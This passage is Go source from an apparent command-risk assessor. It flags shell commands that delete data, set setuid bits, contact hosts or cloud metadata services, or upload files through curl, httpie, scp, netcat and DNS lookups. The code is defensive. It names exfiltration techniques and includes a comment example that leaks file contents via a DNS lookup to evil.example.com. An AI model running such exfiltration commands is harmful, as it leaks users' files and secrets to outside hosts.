	// cp, mv and install replace an existing file at dest unless told not
	// to (-n, -i, a backup).
	replaces := prog != "ln" && !hasFlag(args, "-n", "--no-clobber", "-i", "--interactive", "-b", "--backup") && !hasFlagPrefix(args, "--backup=")
	// Into a directory (`cp a b /tmp/`, -t DIR, an existing directory):
	// each source lands as DIR/NAME, and that is what is written.
	if !intoDir && !hasFlag(args, "-T", "--no-target-directory") {
		st, err := os.Stat(as.abs(dest))
		intoDir = len(ops) > 1 || strings.HasSuffix(dest, "/") || err == nil && st.IsDir()
	}
	if intoDir && !strings.ContainsAny(dest, "$`") {
		for _, src := range ops {
			name := filepath.Base(src)
			if strings.ContainsAny(name, "$`") {
				name = "…" // named at run time, in a directory that is not
			}
			if t := filepath.Join(dest, name); as.abs(t) != as.abs(src) { // onto itself: cp refuses
				as.writes(t, replaces)
			}
		}
	} else {
		as.writes(dest, replaces)
	}
	if prog == "mv" {
		for _, src := range ops {
			p := as.abs(src)
			if !as.Inside(p) {
				as.outsideRoots(as.beyondSandbox(p), High, DataDeletion, "", "moves away files outside the workspace: "+as.Display(p, false))
			} else if as.vcsData(p) {
				// The sandbox holds it read-only: a rename fails there.
				as.stopped(High, DataDeletion, "moves repository data away: "+as.Display(p, true))
			}
		}
	}
	for _, src := range ops {
		if isSecretPath(src) {
			as.Reads(src)
		}
	}
}

func (as *Assessor) dd(args []string) {
	for _, a := range args {
		switch {
		case strings.HasPrefix(a, "of="):
			as.writes(strings.TrimPrefix(a, "of="), true)
		case a == "if=/dev/zero" || a == "if=/dev/urandom" || a == "if=/dev/random":
			if !hasFlagPrefix(args, "count=") {
				as.Add(High, ResourceExhaustion, "copies from "+strings.TrimPrefix(a, "if=")+" without a count")
			}
		case strings.HasPrefix(a, "if="):
			as.Reads(strings.TrimPrefix(a, "if="))
		}
	}
}

func (as *Assessor) chmod(prog string, args []string) {
	ops := Operands(args)
	if len(ops) < 2 {
		return
	}
	mode := ops[0]
	if prog == "chmod" && (strings.Contains(mode, "s") && (strings.Contains(mode, "+") || strings.Contains(mode, "=")) || len(mode) == 4 && mode[0] >= '2' && mode[0] <= '7') {
		as.Add(High, PrivilegeEscalation, "sets the setuid/setgid bit ("+prog+" "+mode+")")
	}
	if prog == "chown" && (strings.HasPrefix(mode, "root") || strings.HasPrefix(mode, "0:")) {
		as.Add(High, PrivilegeEscalation, "gives files to root (chown "+mode+")")
	}
	if prog == "chmod" && worldWritable(mode) {
		as.Add(Medium, SystemModification, fmt.Sprintf("lets every user of this machine change %s (chmod %s)", strings.Join(ops[1:], " "), mode))
	}
	for _, f := range ops[1:] {
		p := as.abs(f)
		if !as.Inside(p) {
			as.outsideRoots(as.beyondSandbox(p), High, SystemModification, "", fmt.Sprintf("changes permissions outside the workspace: %s", as.Display(p, false)))
		}
	}
}

// worldWritable says whether a chmod mode gives others write access: an
// octal mode whose last digit has 2, or a clause for o or a that adds or
// sets w (`a+rwx`, `o=rw`; a bare `+w` follows the umask).
func worldWritable(mode string) bool {
	if n := len(mode); n >= 3 && strings.Trim(mode, "01234567") == "" {
		return (mode[n-1]-'0')&2 != 0
	}
	for _, clause := range strings.Split(mode, ",") {
		i := strings.IndexAny(clause, "+=")
		if i >= 0 && strings.ContainsAny(clause[:i], "oa") && strings.ContainsRune(clause[i+1:], 'w') {
			return true
		}
	}
	return false
}

// ---- network ----

// bashNetPath recognises bash's /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT
// redirections, which open network connections.
func bashNetPath(p string) (string, bool) {
	for _, prefix := range []string{"/dev/tcp/", "/dev/udp/"} {
		if rest, ok := strings.CutPrefix(p, prefix); ok {
			host, _, _ := strings.Cut(rest, "/")
			return host, host != ""
		}
	}
	return "", false
}

func (as *Assessor) contacts(host string, level Level) {
	if host == "" {
		return
	}
	if !slices.Contains(as.hosts, host) {
		as.hosts = append(as.hosts, host)
	}
	if !as.remotesRead {
		as.remotes, as.remotesRead = RepoRemoteHosts(as.Ctx.Cwd), true
	}
	if _, high := HostReach(host); high {
		// A cloud metadata service hands out the machine's credentials.
		level = High
	}
	as.Add(level, NetworkAccess, "contacts "+host+hostNote(host, as.remotes))
}

func (as *Assessor) fetch(prog string, args []string) {
	var hosts []string
	for _, a := range args {
		if h := wordURLHost(a); h != "" {
			hosts = append(hosts, h)
		}
	}
	for _, h := range hosts {
		as.contacts(h, Medium)
	}
	dest := "the network"
	if len(hosts) > 0 {
		dest = hosts[0]
	}
	for i, a := range args {
		var file string
		switch {
		case (a == "-d" || a == "--data" || a == "--data-binary" || a == "--data-raw" || a == "--data-urlencode" || a == "-F" || a == "--form") && i+1 < len(args):
			if v := args[i+1]; strings.Contains(v, "@") {
				file = v[strings.Index(v, "@")+1:]
			}
		case (a == "-T" || a == "--upload-file") && i+1 < len(args):
			file = args[i+1]
		case strings.HasPrefix(a, "--post-file="), strings.HasPrefix(a, "--body-file="):
			file = a[strings.Index(a, "=")+1:]
		case strings.HasPrefix(a, "-d@"):
			file = a[3:]
		case (prog == "http" || prog == "https" || prog == "xh") && !strings.HasPrefix(a, "-"):
			file = httpieFile(a)
		}
		if file != "" && file != "-" {
			as.stoppedIf(as.offline(), High, DataExfiltration, fmt.Sprintf("uploads %s to %s", as.Display(as.abs(file), false), dest))
			as.Reads(file)
		}
	}
	as.substitutedUploads(args, dest)
	if prog == "curl" || prog == "wget" {
		for i, a := range args {
			if (a == "-o" || a == "--output" || a == "-O" && prog == "wget") && i+1 < len(args) {
				as.writes(args[i+1], true)
			}
		}
	}
}

// httpieSeparators are httpie's request-item separators, the longest
// first where one begins another.
var httpieSeparators = []string{":=@", "=@", "@", ":=", "==", "=", ":"}

// httpieFile is the file an httpie request item sends: the whole body
// (@FILE), a form file (NAME@FILE), a field's text or JSON from a file
// (NAME=@FILE, NAME:=@FILE); "" for other items (email=a@b.com is text).
func httpieFile(item string) string {
	at, sep := -1, ""
	for _, s := range httpieSeparators {
		if i := strings.Index(item, s); i >= 0 && (at < 0 || i < at) {
			at, sep = i, s
		}
	}
	if at < 0 || !strings.HasSuffix(sep, "@") || strings.Contains(item, "://") {
		return ""
	}
	return item[at+len(sep):]
}

// wordURLHost is the host of a URL word, also one that expands a command
// substitution or a variable after its host ("https://h/?q=$(...)", kept
// as its source text): "" when the host itself is not literal.
func wordURLHost(w string) string {
	if h := urlHost(w); h != "" {
		return h
	}
	w = strings.TrimLeft(w, `"'`)
	cut := strings.IndexAny(w, "$`")
	if cut < 0 {
		return ""
	}
	scheme := strings.Index(w, "://")
	if scheme < 0 || scheme > cut {
		return ""
	}
	end := strings.IndexAny(w[scheme+3:], "/?#")
	if end < 0 || scheme+3+end > cut {
		return "" // the host goes on past the expansion
	}
	return urlHost(w[:scheme+3+end])
}

// substitutedUploads flags a command substitution in a network command's
// arguments whose command outputs files' contents (a producerStage: cat,
// base64, tar...): its output is sent to dest, as a pipe into the command
// would be.
func (as *Assessor) substitutedUploads(args []string, dest string) {
	for _, a := range args {
		for _, inner := range substitutions(a) {
			if producerStage().MatchString(inner) {
				level := High
				if !strings.HasPrefix(dest, "DNS") {
					level = remoteLevel(dest)
				}
				as.stoppedIf(as.offline(), level, DataExfiltration, fmt.Sprintf("uploads the output of `%s` to %s", command.EscapeText(strings.TrimSpace(inner)), dest))
			}
		}
	}
}

// substitutions are the commands of a word's $(...) and `...`
// substitutions, as written (outermost only).
func substitutions(w string) []string {
	var out []string
	for i := 0; i < len(w); i++ {
		switch {
		case strings.HasPrefix(w[i:], "$("):
			depth, j := 1, i+2
			for ; j < len(w) && depth > 0; j++ {
				switch w[j] {
				case '(':
					depth++
				case ')':
					depth--
				}
			}
			if depth == 0 {
				out = append(out, w[i+2:j-1])
			}
			i = j - 1
		case w[i] == '`':
			if end := strings.IndexByte(w[i+1:], '`'); end >= 0 {
				out = append(out, w[i+1:i+1+end])
				i += end + 1
			}
		}
	}
	return out
}

var sshHostArg = lazyre.New(`^(?:[\w.+-]+@)?([A-Za-z0-9][\w.-]*)(?::.*)?$`)

func (as *Assessor) remote(prog string, args []string) {
	ops := Operands(args)
	switch prog {
	case "scp", "rsync":
		if len(ops) < 2 {
			return
		}
		dest := ops[len(ops)-1]
		for _, op := range ops {
			if i := strings.Index(op, ":"); i > 0 && !strings.Contains(op[:i], "/") {
				host := op[:i]
				if at := strings.LastIndex(host, "@"); at >= 0 {
					host = host[at+1:]
				}
				as.contacts(host, Medium)
				if op == dest {
					for _, src := range ops[:len(ops)-1] {
						as.stoppedIf(as.offline(), High, DataExfiltration, fmt.Sprintf("copies %s to %s", as.Display(as.abs(src), false), host))
						as.Reads(src)
					}
				}
			}
		}
		if !strings.Contains(dest, ":") {
			as.writes(dest, false)
		}
	case "nc", "ncat", "netcat":
		// Not -e's program or -p's port: the host it connects to, if any
		// (a listener has none).
		if nc := parseNetcat(args); nc.host != "" && !nc.listen {
			if m := sshHostArg().FindStringSubmatch(nc.host); m != nil {
				as.contacts(m[1], Medium)
			}
		}
	case "socat":
		for _, addr := range socatAddresses(args) {
			if kind, host := socatAddress(addr); kind == "connect" {
				as.contacts(host, Medium)
			}
		}
	case "ssh":
		// Not the first operand: -L, -R and -D take forward specs.
		if m := sshHostArg().FindStringSubmatch(parseSSH(args).host); m != nil {
			as.contacts(m[1], Medium)
		}
	default:
		// A name built from a file's contents leaves in the lookup itself
		// (dig $(xxd -p < f).evil.example.com).
		as.substitutedUploads(args, "DNS, in a name ("+prog+")")
		// The first operand that is not a bare number (a count, a port).
		for _, op := range ops {
			if command.LooksNumeric(op) && !strings.Contains(op, ".") {
				continue
			}
			if m := sshHostArg().FindStringSubmatch(op); m != nil {
				as.contacts(m[1], Medium)
			}
			return
		}
	}
}

// urlHost returns the host of a URL argument, or "".
func urlHost(s string) string {
	if !strings.Contains(s, "://") {
		return ""
	}
	u, err := url.Parse(s)
	if err != nil || u.Hostname() == "" {
		return ""
	}
	return u.Hostname()
}

// ---- paths and formatting ----

func (as *Assessor) abs(p string) string { return as.absFrom(as.Ctx.Cwd, p) }

func (as *Assessor) absFrom(base, p string) string {
	if p == "~" {
		return as.Ctx.Home
	}
	if strings.HasPrefix(p, "~/") {
		return filepath.Join(as.Ctx.Home, p[2:])
	}
	if filepath.IsAbs(p) {
		return filepath.Clean(p)
	}
	return filepath.Join(base, p)
}

// inside reports whether p is inside one of the writable roots.
func (as *Assessor) Inside(p string) bool {
	for _, r := range as.Roots {
		if Within(r, p) {
			return true
		}
	}
	return false
}

func Within(root, p string) bool {
	root, p = filepath.Clean(root), filepath.Clean(p)
	return p == root || strings.HasPrefix(p, strings.TrimSuffix(root, "/")+"/")
}

// display shows a path relative to the cwd when inside it, with ~ for the
// home directory, and absolute otherwise.
func (as *Assessor) Display(p string, dir bool) string {
	s := p
	cwd := filepath.Clean(as.Ctx.Cwd)
	switch {
	case as.Ctx.Cwd != "" && p == cwd:
		s = "."
	case as.Ctx.Cwd != "" && Within(cwd, p):
		s = strings.TrimPrefix(p, strings.TrimSuffix(cwd, "/")+"/")
	case as.Ctx.Home != "" && p == as.Ctx.Home:
		s = "~"
	case as.Ctx.Home != "" && Within(as.Ctx.Home, p):
		s = "~/" + strings.TrimPrefix(p, as.Ctx.Home+"/")
	}
	if dir && !strings.HasSuffix(s, "/") {
		s += "/"
	}
	return s
}

func Operands(args []string) []string {
	var out []string
	for i, a := range args {
		if a == "--" {
			return append(out, args[i+1:]...)
		}
		if !strings.HasPrefix(a, "-") || a == "-" {
			out = append(out, a)
		}
	}
	return out
}

func hasFlag(args []string, flags ...string) bool {
	for _, a := range args {
		if slices.Contains(flags, a) {
			return true
		}
	}
	return false
}

func hasFlagPrefix(args []string, prefix string) bool {
	for _, a := range args {
		if strings.HasPrefix(a, prefix) {
			return true
		}
	}
	return false
}

func plural(n int64, one, many string) string {
	if n == 1 {
		return one
	}
	return many
}

// commas writes 1204 as "1,204".
func commas(n int64) string {
	s := fmt.Sprint(n)
	if n < 0 {
		return s
	}
	var b strings.Builder
	for i, c := range s {
		if i > 0 && (len(s)-i)%3 == 0 {
			b.WriteByte(',')
		}
		b.WriteRune(c)
	}
	return b.String()
}

// humanBytes writes a size in decimal units: "512 bytes", "3.2 KB", "38 MB".
func HumanBytes(n int64) string {
	if n < 1000 {
		return fmt.Sprintf("%d %s", n, plural(n, "byte", "bytes"))
	}
	units := []string{"KB", "MB", "GB", "TB", "PB"}
	v := float64(n) / 1000
	u := 0
	for v >= 1000 && u < len(units)-1 {
		v /= 1000
		u++
	}
	if v < 10 {
		return fmt.Sprintf("%.1f %s", v, units[u])
	}
	return fmt.Sprintf("%.0f %s", v, units[u])
}
